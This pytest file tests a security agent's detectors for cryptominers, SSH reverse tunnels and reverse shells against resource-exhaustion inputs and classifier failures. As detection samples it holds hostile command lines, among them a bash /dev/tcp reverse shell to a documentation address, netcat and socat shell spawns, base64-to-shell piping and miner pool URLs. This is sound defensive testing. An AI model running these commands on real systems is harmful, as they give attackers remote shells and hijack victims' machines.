# SPDX-License-Identifier: Apache-2.0
"""The workload is the attacker: every byte a classifier reads (argv, files
in the container, payloads) may be built to freeze or blind the agent.

Each red-team finding is a test here, with variations of its class:
1. parsers are linear in their input (a comment bomb beside any binary,
   nesting bombs, quadratic regular expressions);
2. what a budget keeps a classifier from reading is reported as unread, at
   high confidence, instead of being taken as harmless;
3. a classifier that raises costs only its own answer, and fails closed.
Times are wall-clock bounds meant for a slow 2-vCPU VM: each case takes a
few milliseconds to a few hundred here.
"""
from __future__ import annotations

import errno

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from guard.detect import detector as detect
from guard.detect import files as files_module
from guard.kernel.abi import SampleKind
from guard.detect.classify import (
    FileContent, Finding, dns, miner, reverse_shell, ssh, ssh_config, stratum, tunnels,
)
from guard.detect.detector import ENFORCING, Detector, decide, strongest
from guard.detect.files import CONFIG_READ_MAX, DIR_LIST_MAX, ProcessFiles
from guard.policy.load import default_policy
from tests.unit.classify_checks import FakeFiles, assert_json, payload_record, timed

#: Any one classification, whatever its input.
BOUND = 1.0
#: The comment bomb of finding 1 (18 s for 128 KiB before): well under BOUND.
QUICK = 0.25
POLICY = default_policy()
UNREAD, CLASSIFIER_ERROR = "unread-config", "classifier-error"
USER_CONFIG = "/root/.ssh/config"
FORWARD = b"RemoteForward 9000 localhost:22\n"


def kinds(findings: list[Finding]) -> list[tuple[str, str | None, str]]:
    return [(f.type, f.dialect, f.confidence) for f in findings]


def only_unread(findings: list[Finding]) -> Finding:
    unread = [f for f in findings if f.dialect == UNREAD]
    assert len(unread) == 1, findings
    assert unread[0].confidence == "high" and unread[0].evidence["note"]
    return unread[0]


def judge(argv: list[str], exe: str | None, files: FakeFiles | None,
          detector: Detector | None = None) -> list[Finding]:
    """Detector.exec_findings under the default (enforcing) policy, in BOUND."""
    findings, seconds = timed(lambda: (detector or Detector()).exec_findings(
        POLICY, argv, exe, files))
    assert seconds < BOUND, f"{seconds:.2f} s"
    assert_json(findings)
    return findings


def repeat(fragment: bytes, size: int) -> bytes:
    return (fragment * (size // len(fragment) + 1))[:size]


# --------------------------------------------------------------------------
# 1. Linear parsers


@pytest.mark.parametrize("size", [128 * 1024, 256 * 1024, CONFIG_READ_MAX])
def test_a_comment_bomb_beside_any_binary_is_read_quickly(size):
    files = FakeFiles({"/opt/app/config.json": repeat(b"{/* x", size)})
    findings, seconds = timed(lambda: Detector().exec_findings(
        POLICY, ["/opt/app/run"], "/opt/app/run", files))
    assert seconds < QUICK, f"{seconds:.2f} s"
    assert findings == []                     # not a miner, and no reason to think it is one
    assert files.asked == ["/opt/app/config.json"]


#: Shapes that make naive comment/string/comma strippers quadratic.
JSON_BOMBS = [b"/* x", b"/**/", b"//\n", b'"\\"', b",", b'""', b",]", b"[", b"[]", b'/"', b"\\",
              b'"', b"'", b"*/", b"{", b'{"a":', b", \n"]


@pytest.mark.parametrize("shape", JSON_BOMBS, ids=[s.decode() for s in JSON_BOMBS])
def test_json_bombs_named_or_beside_the_binary_are_linear(shape):
    bomb = b"{" + repeat(shape, CONFIG_READ_MAX - 1)
    files = FakeFiles({"/opt/x/config.json": bomb, "/opt/x/c.json": bomb})
    assert not [f for f in judge(["/opt/x/run"], "/opt/x/run", files) if f.type == "miner_exec"]
    for finding in judge(["/opt/x/run", "--config", "/opt/x/c.json"], "/opt/x/run", files):
        # a named config either parses to nothing, or was over a budget: unread
        assert (finding.type, finding.dialect, finding.confidence) == ("miner_exec", UNREAD, "high")
        assert "/opt/x/c.json" in finding.evidence["note"]


def test_a_deep_config_does_not_drop_the_ssh_finding():
    deep = b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    argv = ["ssh", "-R", "9000:localhost:22", "host", "--config", "deep.json"]
    findings = judge(argv, "/usr/bin/ssh", FakeFiles({"deep.json": deep}))
    assert ("ssh_reverse_tunnel", "ssh", "high") in kinds(findings)
    unread = only_unread(findings)
    assert unread.type == "miner_exec"
    assert "deep.json" in unread.evidence["note"] and "nested" in unread.evidence["note"]


@pytest.mark.parametrize("text", [
    b"/* c */" + b"[" * 100_000,                                  # no closing at all
    b'{"pools": ' + b'[{"a": ' * 50_000 + b"1" + b"}]" * 50_000 + b"}",
    b"{" + b'"a":{' * 65 + b"}" * 66,                              # just past the limit
])
def test_a_named_config_nested_too_deep_fails_closed(text):
    findings = judge(["/tmp/k", "-c", "/tmp/k.json"], "/tmp/k", FakeFiles({"/tmp/k.json": text}))
    assert only_unread(findings).type == "miner_exec"


def test_a_deep_config_beside_a_binary_fails_closed_only_when_it_mentions_mining():
    deep = b'{"cpu": {"randomx": 1}, "x": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
    assert only_unread(judge(["/tmp/k"], "/tmp/k", FakeFiles({"/tmp/config.json": deep})))
    benign = b'{"name": "app", "x": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"
    assert judge(["/tmp/k"], "/tmp/k", FakeFiles({"/tmp/config.json": benign})) == []


def test_frp_login_nested_deep_is_no_error():
    body = b"[" * 60_000
    message = b"o" + len(body).to_bytes(8, "big") + b"{" + body
    findings, seconds = timed(lambda: tunnels.classify_tunnel_payload(message, 7000))
    assert seconds < BOUND and findings == []


#: argv elements and scripts shaped against each regular expression and loop
#: of the exec classifiers (each was measured, several were quadratic or worse).
ARGV_BOMBS = {
    "msr tweak words": ["modprobe", repeat(b"modprobe msr ", 16 * 1024).decode()],
    "msr in sh -c": ["sh", "-c", repeat(b"modprobe msr ", 16 * 1024).decode()],
    "socat colons": ["socat", "exec:sh", "tcp:" + ":" * 60_000],
    "socat brackets": ["socat", "exec:sh", "tcp:" + "[:" * 30_000],
    "exec fd lines": ["bash", "-c", repeat(b"exec 3<>/dev/tcp/a/1;", 64 * 1024).decode()],
    "quoted escapes": ["python3", "-c", "import socket,os;s=socket.socket();s.connect(('a',1));"
                       "os.dup2(1,2);" + "'\\" * 8000],
    "double quoted escapes": ["perl", "-e", "socket connect exec " + '"\\' * 8000],
    "nested interpreters": ["bash", "-c", repeat(
        b"python -c 'import os;os.system(\"bash -c \\\"perl -e x\\\"\")';", 16 * 1024).decode()],
    "pipes": ["bash", "-c", repeat(b"nc a 1|sh|", 16 * 1024).decode()],
    "operators": ["bash", "-c", repeat(b"<>&|;", 16 * 1024).decode()],
    "base64 blobs": ["sh", "-c", repeat(b"echo QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB | base64 -d | sh;",
                                       16 * 1024).decode()],
    "stratum schemes": ["x", repeat(b"stratum+tcp://", 16 * 1024).decode()],
    "wallet shapes": ["x", "-u", "4" * 16_000],
    "many options": ["xmrig"] + ["-o"] * 30_000,
    "many ssh forwards": ["ssh"] + ["-R1:a:2"] * 30_000 + ["h"],
    "unknown ssh letters": ["ssh", "-" + "Z" * 60_000, "h"],
    "escaped forward": ["ssh", "-R", "\\:" * 30_000, "h"],
    "quoted -o": ["ssh", "-o", "RemoteForward " + '"\\ ' * 20_000, "h"],
    "env -S chains": ["env", "-S", "env -S " * 8_000],
    "awk inet": ["awk", repeat(b"/inet/tcp/1/", 16 * 1024).decode()],
    "launchers": ["nohup"] * 30_000 + ["ngrok", "tcp", "22"],
}


@pytest.mark.parametrize("argv", ARGV_BOMBS.values(), ids=ARGV_BOMBS.keys())
def test_argv_bombs_are_classified_in_bound(argv):
    detector = Detector()
    judge(argv, None, FakeFiles(), detector)
    judge(argv, "/usr/bin/ssh", FakeFiles(), detector)       # every classifier, ssh too
    assert detector.take_errors() == []


PAYLOAD_BOMBS = [repeat(fragment, 16 * 1024) for fragment in (
    b"{", b'{"a":', b'{"method":"mining.subscribe","params":[', b'"\\', b"\n{", b"[" * 8,
    b"POST / HTTP/1.1\r\nX-Mining-Extensions: a\r\n", b"\x16\x03\x01\xff\xff", b"\x05\x01\x00",
    b"SSH-2.0-", b"CONNECT ", b'{"Hello":"')]


@pytest.mark.parametrize("sample", PAYLOAD_BOMBS, ids=range(len(PAYLOAD_BOMBS)))
def test_payload_bombs_are_classified_in_bound(sample):
    detector = Detector()
    for kind in (SampleKind.FIRST, SampleKind.PROXY, SampleKind.UDP, SampleKind.DNS_ANSWER):
        findings, seconds = timed(lambda: detector.payload_findings(
            POLICY, payload_record(sample, kind, 53), argv=["ssh", "-R", "1:a:2", "h"]))
        assert seconds < BOUND
        assert_json(findings)
    _, seconds = timed(lambda: detector.inbound_findings(POLICY, sample, 3333, sample))
    assert seconds < BOUND and detector.take_errors() == []


# --------------------------------------------------------------------------
# 2. Budgets fail closed: ssh_config


def ssh_judge(config: bytes | dict, argv: list[str] | None = None,
              dirs: dict | None = None) -> list[Finding]:
    files = config if isinstance(config, dict) else {USER_CONFIG: config}
    return judge(argv or ["ssh", "host"], "/usr/bin/ssh", FakeFiles(files, dirs))


@pytest.mark.parametrize("padding", [b"\n", b"# a comment\n", b"  \t \r\n", b"\t# indented\n"])
def test_padding_before_a_forward_is_read_through(padding):
    findings = ssh_judge(padding * 20_001 + FORWARD)
    assert kinds(findings) == [("ssh_reverse_tunnel", "ssh", "high")]
    assert findings[0].evidence["origin"] == f"{USER_CONFIG}:20002"


def test_a_forward_past_the_byte_limit_is_reported_unread():
    findings = ssh_judge(b"#" + b"x" * (1 << 20) + b"\n" + FORWARD)
    assert [f.type for f in findings] == ["ssh_outbound", "ssh_reverse_tunnel"]
    note = only_unread(findings).evidence["note"]
    assert USER_CONFIG in note and "bytes" in note


def test_a_file_the_reader_cut_is_unread_however_short():
    findings = ssh_judge(FileContent(b"Host *\n  Port 22\n", truncated=True))
    assert USER_CONFIG in only_unread(findings).evidence["note"]


def test_a_forward_in_the_65th_included_file_is_reported_unread():
    files = {USER_CONFIG: b"".join(b"Include /i/%d\n" % i for i in range(65))}
    files.update({f"/i/{i}": b"# nothing here\n" for i in range(64)})
    files["/i/64"] = FORWARD
    note = only_unread(ssh_judge(files)).evidence["note"]
    assert "/i/" in note and "64 config files" in note


def test_includes_nested_too_deep_are_reported_unread():
    files = {USER_CONFIG: b"Include /d/1\n", "/d/20": FORWARD}
    files.update({f"/d/{i}": b"Include /d/%d\n" % (i + 1) for i in range(1, 20)})
    assert "too deeply" in only_unread(ssh_judge(files)).evidence["note"]


def test_more_keyword_lines_than_the_budget_are_reported_unread():
    note = only_unread(ssh_judge(b"SendEnv X\n" * 20_001 + FORWARD)).evidence["note"]
    assert "20000 lines" in note


def test_all_files_together_have_a_byte_budget():
    padding = b"#" * (900 * 1024) + b"\n"
    files = {USER_CONFIG: b"Include /a /b /c\n", "/a": padding, "/b": padding, "/c": padding + FORWARD}
    assert "/c" in only_unread(ssh_judge(files)).evidence["note"]


def test_a_long_destination_exhausts_the_pattern_budget():
    config = b"Host *a*b !*c x?y?z\n  Port 22\n" * 2_000 + FORWARD
    note = only_unread(ssh_judge(config, ["ssh", "a" * 60_000])).evidence["note"]
    assert "patterns" in note


@pytest.mark.parametrize("line", [b"Include " + b"/x " * 300_000, b"Include " + b"~o/x " * 200_000,
                                  b"Match " + b"host a " * 140_000, b"Match " + b"exec x " * 140_000,
                                  b"Host " + b"a " * 500_000, b"Match host " + b"a," * 500_000])
def test_a_long_line_spends_the_work_budget(line):
    note = only_unread(ssh_judge(line + b"\n" + FORWARD)).evidence["note"]
    assert "patterns" in note


def test_a_flood_of_forwards_gives_a_bounded_number_of_findings():
    findings = ssh_judge(FORWARD * 20_000)
    assert len(findings) == ssh.MAX_REVERSE_FINDINGS
    assert findings[-1].evidence["forwards_not_listed"] == 20_000 - ssh.MAX_REVERSE_FINDINGS


@pytest.mark.parametrize("pattern", [b"*a" * 500_000, b"*" * 1_000_000, b"?" * 1_000_000,
                                     b"a*" * 300_000 + b"?b"])
def test_huge_host_patterns_cost_their_length(pattern):
    findings = ssh_judge(b"Host " + pattern + b"\n" + FORWARD + b"Match host " + pattern + b"\n")
    assert findings                                           # read, in bound


def test_hostname_expansion_is_bounded():
    argv = ["ssh", "-o", "Hostname=" + "%h" * 50_000, "a" * 30_000]
    findings = ssh_judge(b"Match host x\n" + FORWARD, argv)
    assert "Hostname expands" in only_unread(findings).evidence["note"]


def test_an_include_glob_over_a_huge_directory_is_unread():
    dirs = {"/root/.ssh/conf.d": [f"n{i}.conf" for i in range(DIR_LIST_MAX + 1)]}
    findings = ssh_judge({USER_CONFIG: b"Include conf.d/*.conf\n"}, dirs=dirs)
    assert "4096 names" in only_unread(findings).evidence["note"]


def test_an_include_glob_naming_too_many_files_is_unread():
    dirs = {"/root/.ssh/conf.d": [f"n{i}.conf" for i in range(65)]}
    findings = ssh_judge({USER_CONFIG: b"Include conf.d/*\n"}, dirs=dirs)
    assert "more than 64 paths" in only_unread(findings).evidence["note"]


def test_a_giant_include_glob_is_unread_and_quick():
    findings = ssh_judge({USER_CONFIG: b"Include /d/" + b"*a" * 200_000 + b"\n"},
                         dirs={"/d": ["a" * 200]})
    assert "Include pattern" in only_unread(findings).evidence["note"]


def test_unread_config_is_reported_even_for_an_allowlisted_destination():
    allow = [{"host": "host", "forwards": ["remote", "local"]}]
    config = b"#" * (1 << 20) + b"\n" + FORWARD
    findings = ssh.classify_ssh(["ssh", "host"], FakeFiles({USER_CONFIG: config}).read_file,
                                allowlist=allow)
    assert ("ssh_outbound", "ssh", "low") in kinds(findings)
    only_unread(findings)


def test_glob_matching_agrees_with_fnmatch_on_star_and_question_mark():
    import fnmatch
    for pattern in ("*", "a*", "*a", "a*b*c", "?", "a?c", "*?*", "**a**", "a*?b", "*.example.org",
                    "10.0.0.?", "?*?", "ab*ab", "a*a*a", "*a?", ""):
        for text in ("", "a", "ab", "abc", "aXbYc", "aab", "abab", "x.example.org", "10.0.0.7",
                     "aaa", "aba", "bca"):
            assert ssh_config.glob_match(text, pattern) == fnmatch.fnmatchcase(text, pattern), (
                text, pattern)


# --------------------------------------------------------------------------
# 2. Budgets fail closed: miner configs


def test_a_named_config_over_the_limit_fails_closed():
    config = b'{"name": "app", "pad": "' + b"x" * CONFIG_READ_MAX + b'"}'
    findings = judge(["/srv/app", "--config", "/srv/c.json"], "/srv/app",
                     FakeFiles({"/srv/c.json": config}))
    assert "/srv/c.json" in only_unread(findings).evidence["note"]


def test_a_big_benign_config_beside_the_binary_is_no_finding():
    config = b'{"name": "app", "pad": "' + b"x" * CONFIG_READ_MAX + b'"}'
    assert judge(["/srv/app"], "/srv/app", FakeFiles({"/srv/config.json": config})) == []
    truncated = FileContent(config[:4096], truncated=True)
    assert judge(["/srv/app"], "/srv/app", FakeFiles({"/srv/config.json": truncated})) == []


@pytest.mark.parametrize("head", [b'{"donate-level": 1, ', b'{"pools": [{"url": "pool.supportxmr.com:443"}], ',
                                  b'{"x": "stratum+ssl://h:1", '])
def test_a_padded_miner_config_beside_the_binary_fails_closed(head):
    config = head + b'"pad": "' + b"x" * CONFIG_READ_MAX + b'"}'
    findings = judge(["/tmp/.k/kworker"], "/tmp/.k/kworker",
                     FakeFiles({"/tmp/.k/config.json": config}))
    note = only_unread(findings).evidence["note"]
    assert "/tmp/.k/config.json" in note and "mentions" in note


def test_named_configs_share_a_budget_and_the_binary_keeps_its_own():
    junk = b'{"pad": "' + b"x" * (CONFIG_READ_MAX - 20) + b'"}'
    xmrig = b'{"donate-level": 1, "pools": [{"url": "pool.supportxmr.com:443"}]}'
    files = FakeFiles({"/a.json": junk, "/b.json": junk, "/tmp/k/config.json": xmrig})
    findings = judge(["/tmp/k/run", "-c", "/a.json", "-c", "/b.json"], "/tmp/k/run", files)
    assert ("miner_exec", "xmrig", "high") in kinds(findings)     # config.json still read
    assert "/b.json" in only_unread(findings).evidence["note"]     # the second junk was not


def test_a_named_config_past_the_spent_budget_fails_closed():
    exact = b'{"pad": "' + b"x" * (CONFIG_READ_MAX - 11) + b'"}'
    assert len(exact) == CONFIG_READ_MAX
    files = FakeFiles({"/a.json": exact, "/b.json": b"{}"})
    findings = judge(["/tmp/k", "-c", "/a.json", "-c", "/b.json"], "/tmp/k", files)
    assert "/b.json: more than 0 bytes" in only_unread(findings).evidence["note"]


def test_more_named_configs_than_read_fail_closed():
    argv = ["/tmp/k"] + [arg for i in range(5) for arg in ("-c", f"/c{i}.json")]
    files = FakeFiles({f"/c{i}.json": b"{}" for i in range(5)})
    assert "/c3.json" in only_unread(judge(argv, "/tmp/k", files)).evidence["note"]


# --------------------------------------------------------------------------
# The agent's reader says when it cut a file


def test_process_files_mark_what_they_did_not_read(tmp_path, monkeypatch):
    import os
    monkeypatch.setattr(files_module, "DIR_LIST_MAX", 8)      # as for 4096, with fewer files to make
    files = ProcessFiles(os.getpid())
    (tmp_path / "big").write_bytes(b"x" * (CONFIG_READ_MAX + 10))
    (tmp_path / "small").write_bytes(b"Host *\n")
    big = files.read_file(str(tmp_path / "big"))
    assert len(big) == CONFIG_READ_MAX and big.truncated
    small = files.read_file(str(tmp_path / "small"))
    assert small == b"Host *\n" and not getattr(small, "truncated", False)
    exact = tmp_path / "exact"
    exact.write_bytes(b"y" * CONFIG_READ_MAX)
    assert not getattr(files.read_file(str(exact)), "truncated", False)
    many = tmp_path / "many"
    many.mkdir()
    for i in range(10):
        (many / f"{i:05}").touch()
    assert len(files.list_dir(str(many))) == 9
    assert files.list_dir(str(tmp_path)) == ["big", "exact", "many", "small"]


# --------------------------------------------------------------------------
# 3. Classifiers isolated


def raising(error: BaseException):
    def classify(*args, **kwargs):
        raise error
    return classify


MINED_SSH = ["ssh", "-R", "9000:localhost:22", "h", "xmrig -o stratum+tcp://pool.supportxmr.com:3333"]
EXEC_CLASSIFIERS = [
    # (module, function, name in notes, finding types it owns, argv others also flag)
    (ssh, "classify_ssh", "ssh", {"ssh_reverse_tunnel", "ssh_outbound"}, MINED_SSH),
    (miner, "classify_exec", "miner exec", {"miner_exec"}, MINED_SSH),
    (tunnels, "classify_tunnel_exec", "tunnel exec", {"tunnel_tool"},
     ["ngrok", "tcp", "stratum+tcp://pool.supportxmr.com:3333"]),
    (reverse_shell, "classify_reverse_shell", "reverse shell", {"reverse_shell"},
     ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1 # stratum+tcp://a.example:1"]),
]


@pytest.mark.parametrize("error", [RecursionError("maximum recursion depth exceeded"),
                                   MemoryError(), ValueError("x" * 10_000)])
@pytest.mark.parametrize("module, function, name, owned, argv", EXEC_CLASSIFIERS,
                         ids=[c[2] for c in EXEC_CLASSIFIERS])
def test_a_raising_exec_classifier_costs_only_its_own_answer(monkeypatch, module, function,
                                                            name, owned, argv, error):
    exe = "/usr/bin/" + argv[0]
    baseline = Detector().exec_findings(POLICY, argv, exe, FakeFiles())
    others = [f for f in baseline if f.type not in owned]
    assert others and len(others) < len(baseline)                 # the case tests something
    monkeypatch.setattr(module, function, raising(error))
    detector = Detector()
    findings = detector.exec_findings(POLICY, argv, exe, FakeFiles())
    failed = [f for f in findings if f.dialect == CLASSIFIER_ERROR]
    assert [f for f in findings if f.dialect != CLASSIFIER_ERROR] == others
    assert len(failed) == 1 and failed[0].type in owned and failed[0].confidence == "high"
    expected = f"{name} failed: {type(error).__name__}"
    assert failed[0].evidence["note"].startswith(expected)
    assert len(failed[0].evidence["note"]) < 300                 # the message is cut short
    errors = detector.take_errors()
    assert len(errors) == 1 and errors[0].startswith(f"{name}: {type(error).__name__}")
    assert detector.take_errors() == []
    assert strongest(decide(findings, POLICY)) in ENFORCING       # fails closed


@pytest.mark.parametrize("module, function, name, fails_as, record", [
    (stratum, "classify_payload", "stratum", "stratum",
     payload_record(b"SSH-2.0-OpenSSH_9.2\r\n", SampleKind.FIRST, 443)),
    (tunnels, "classify_tunnel_payload", "tunnel payload", "tunnel_tool",
     payload_record(b"SSH-2.0-OpenSSH_9.2\r\n", SampleKind.FIRST, 443)),
    (ssh, "classify_ssh_banner", "ssh banner", "ssh_outbound",
     payload_record(b"SSH-2.0-OpenSSH_9.2\r\n", SampleKind.FIRST, 443)),
    (stratum, "classify_payload", "stratum", "stratum",
     payload_record(b'{"id":1,"method":"mining.subscribe","params":[]}\n', SampleKind.FIRST, 443)),
    (dns, "parse_dns_query", "dns", "miner_dns", payload_record(b"\0" * 40, SampleKind.UDP, 53)),
    (dns, "parse_dns_answer", "dns", "miner_dns",
     payload_record(b"\0" * 40, SampleKind.DNS_ANSWER, 53)),
])
def test_a_raising_payload_classifier_costs_only_its_own_answer(monkeypatch, module, function,
                                                               name, fails_as, record):
    baseline = Detector().payload_findings(POLICY, record)
    monkeypatch.setattr(module, function, raising(RecursionError("deep")))
    detector = Detector()
    findings = detector.payload_findings(POLICY, record)
    failed = [f for f in findings if f.dialect == CLASSIFIER_ERROR]
    assert [(f.type, f.confidence) for f in failed] == [(fails_as, "high")]
    assert [f for f in findings if f.dialect != CLASSIFIER_ERROR] == [
        f for f in baseline if f.type != fails_as]
    assert detector.take_errors() == [f"{name}: RecursionError: deep"]


def test_a_renamed_ssh_whose_argv_cannot_be_read_fails_closed(monkeypatch):
    monkeypatch.setattr(ssh, "classify_ssh", raising(MemoryError("argv")))
    detector = Detector()
    findings = detector.payload_findings(
        POLICY, payload_record(b"SSH-2.0-OpenSSH_9.2\r\n", SampleKind.FIRST, 443),
        argv=["backup", "-R", "1:a:2", "h"])
    assert ("ssh_outbound", "openssh", "high") in kinds(findings)
    assert ("ssh_reverse_tunnel", CLASSIFIER_ERROR, "high") in kinds(findings)
    assert detector.take_errors() == ["ssh argv: MemoryError: argv"]


def test_a_raising_reply_classifier_fails_closed(monkeypatch):
    monkeypatch.setattr(stratum, "classify_payload", raising(RecursionError("deep")))
    detector = Detector()
    findings = detector.inbound_findings(POLICY, b'{"id":1}', 3333, b'{"x":1}')
    assert kinds(findings) == [("stratum", CLASSIFIER_ERROR, "high")]
    assert len(detector.take_errors()) == 1


def test_interrupts_are_not_swallowed(monkeypatch):
    monkeypatch.setattr(miner, "classify_exec", raising(KeyboardInterrupt()))
    with pytest.raises(KeyboardInterrupt):
        Detector().exec_findings(POLICY, ["/bin/true"], "/bin/true", None)


def test_errors_kept_for_the_agent_are_bounded(monkeypatch):
    monkeypatch.setattr(miner, "classify_exec", raising(ValueError("x")))
    detector = Detector()
    for _ in range(detect.ERRORS_KEPT + 10):
        detector.exec_findings(POLICY, ["/bin/true"], "/bin/true", None)
    assert len(detector.take_errors()) == detect.ERRORS_KEPT


# --------------------------------------------------------------------------
# Fuzz: nothing escapes, nothing raises inside, every call in bound

SURROGATES = st.sampled_from(["\udcff", "\udc80\udc81", "a\udcffb", "\ud800", "-o\udcff",
                              "/tmp/\udcff/config.json"])
WORDS = st.sampled_from([
    "ssh", "/usr/bin/ssh", "autossh", "sh", "bash", "-c", "-R", "9000:localhost:22", "-F",
    "--config", "-c", "/tmp/c.json", "config.json", "-o", "Include=x", "xmrig", "--donate-level=1",
    "stratum+tcp://pool.supportxmr.com:3333", "ngrok", "tcp", "nc", "-e", "/bin/sh", "python3",
    "import socket;s=socket.socket();s.connect(('a',1))", "/dev/tcp/1.2.3.4/1", "socat",
    "exec:sh", "tcp:[::1]:1", "modprobe", "msr", "allow_writes=on", "'", '"', "\\", "|", ";", "&&",
    "$(", "`", "\n", "h", "u@h", "-"])
ARGS = st.one_of(WORDS, SURROGATES, st.text(st.characters(codec=None, exclude_categories=()),
                                           max_size=40))
ARGV = st.lists(ARGS, max_size=16)
CONTENT = st.one_of(
    st.none(), st.binary(max_size=2000),
    st.builds(lambda b: FileContent(b, truncated=True), st.binary(max_size=200)),
    st.sampled_from([b"[" * 5000, b'{"a":' * 3000, b"{/* x" * 400, b"Include *\n" * 50,
                     b"Host *\nRemoteForward 1 a:2\nInclude ~/.ssh/config\n",
                     b'{"donate-level": 1, "pools": [{"url": "a:1"}],}', b"\xff\xfe\x00"]),
    st.sampled_from([OSError(errno.EACCES, "denied"), PermissionError("x")]))
NAMES = st.one_of(st.none(), st.lists(st.one_of(st.text(max_size=12), SURROGATES), max_size=20))


class AnyFile(FakeFiles):
    """Every path holds the same drawn content; every directory the same names."""

    def __init__(self, content, names):
        super().__init__()
        self.content, self.names = content, names

    def read_file(self, path):
        if isinstance(self.content, BaseException):
            raise self.content
        return self.content

    def list_dir(self, path):
        return self.names


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ARGV, st.one_of(st.none(), WORDS, SURROGATES), CONTENT, NAMES)
def test_exec_classification_never_raises_and_stays_in_bound(argv, exe, content, names):
    detector = Detector()
    judge(argv, exe, AnyFile(content, names), detector)
    judge(argv, exe, None, detector)
    assert detector.take_errors() == []


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4096), st.sampled_from(list(SampleKind)), st.integers(0, 65535),
       st.booleans(), st.booleans(), st.one_of(st.none(), ARGV))
def test_payload_classification_never_raises_and_stays_in_bound(sample, kind, port, traits,
                                                                judged, argv):
    detector = Detector()
    findings, seconds = timed(lambda: detector.payload_findings(
        POLICY, payload_record(sample, kind, port), miner_traits=traits, ssh_judged=judged,
        argv=argv))
    assert seconds < BOUND
    assert_json(findings)
    findings, seconds = timed(lambda: detector.inbound_findings(POLICY, sample, port, sample[::-1],
                                                                miner_traits=traits))
    assert seconds < BOUND
    assert_json(findings)
    assert detector.take_errors() == []


def test_process_files_know_the_processes_user_cwd_and_special_files(tmp_path, monkeypatch):
    import os
    import pwd
    files = ProcessFiles(os.getpid())
    assert files.uid == os.getuid()
    entry = pwd.getpwuid(os.getuid())
    assert (files.user, files.home) == (entry.pw_name, entry.pw_dir or "/")
    assert files.cwd == os.getcwd()
    monkeypatch.chdir(tmp_path)
    (tmp_path / "rel").write_bytes(b"relative")
    assert ProcessFiles(os.getpid()).read_file("rel") == b"relative"   # from its cwd
    assert files.read_file("/dev/null") == b""      # ssh -F /dev/null: empty
    assert files.read_file("/dev/zero") is None     # a device: never read
    os.mkfifo(tmp_path / "fifo")
    assert files.read_file(str(tmp_path / "fifo")) is None   # never blocks on a FIFO
    assert files.read_file(str(tmp_path)) is None            # a directory is not a file
    assert files.list_dir(str(tmp_path / "rel")) is None     # a file is not a directory
    assert files.list_dir(str(tmp_path / "absent")) is None


def test_process_files_of_a_gone_process(tmp_path):
    import subprocess
    gone = subprocess.Popen(["true"])
    gone.wait()
    files = ProcessFiles(gone.pid)
    assert files.cwd == "/"
    assert files.read_file("/etc/hostname") is None
    assert files.list_dir("/") is None


def test_without_openat2_no_symlink_is_followed(tmp_path, monkeypatch):
    import os
    monkeypatch.setattr(files_module, "_SYS_OPENAT2", None)   # Linux < 5.6
    (tmp_path / "real").write_bytes(b"Host *\n")
    os.symlink(tmp_path / "real", tmp_path / "link")
    files = ProcessFiles(os.getpid())
    assert files.read_file(str(tmp_path / "real")) == b"Host *\n"
    assert files.read_file(str(tmp_path / "link")) is None
    assert files.list_dir(str(tmp_path)) == ["link", "real"]


def test_a_user_missing_from_passwd_is_named_by_number(monkeypatch):
    import os
    files = ProcessFiles(os.getpid())
    monkeypatch.setattr(ProcessFiles, "read_file", lambda self, path: b"root:x:0:0::/root:/bin/sh\n")
    files.__dict__["uid"] = 4321
    assert (files.user, files.home) == ("4321", "/")
